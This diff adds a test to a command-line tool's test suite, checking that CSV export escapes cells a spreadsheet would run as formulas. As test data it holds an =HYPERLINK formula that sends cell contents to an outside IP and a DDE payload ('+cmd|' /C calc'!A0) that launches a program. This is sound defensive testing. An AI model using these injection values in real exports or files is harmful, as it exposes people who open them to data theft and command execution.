@@ -350,3 +350,18 @@ def test_a_study_file_given_for_a_study_name_says_what_to_pass(tmp_path: Path, c
         assert "'mlp.yaml' is a study file: pass its study's name and storage, 'mlp' --storage " \
                "postgresql+psycopg://u:***@db/t" in err, err
         assert "s3cret" not in err
+
+def test_export_csv_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Whoever writes the database chooses texts (a choice, an error, a worker name); a cell such as
+    =HYPERLINK(...) ran as a formula when the exported file was opened in a spreadsheet."""
+    db = f"sqlite:///{tmp_path / 'f.db'}"
+    formula = '=HYPERLINK("http://198.51.100.1/?"&A1,"x")'
+    study = ts.Study({"k": ts.Categorical([formula, "@SUM(1)", "plain"])}, storage=db, name="f")
+    for k in (formula, "@SUM(1)", "plain"):
+        study.add_trial({"k": k}, -1.0)
+    study.tell(study.ask(), state="failed", error="+cmd|' /C calc'!A0")
+    out = tmp_path / "t.csv"
+    assert run_cli("export", "f", "--storage", db, "-o", str(out)) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [r["params_k"] for r in rows[:3]] == ["'" + formula, "'@SUM(1)", "plain"]
+    assert rows[3]["error"] == "'+cmd|' /C calc'!A0" and [r["value"] for r in rows[:3]] == ["-1.0"] * 3  # numbers stay
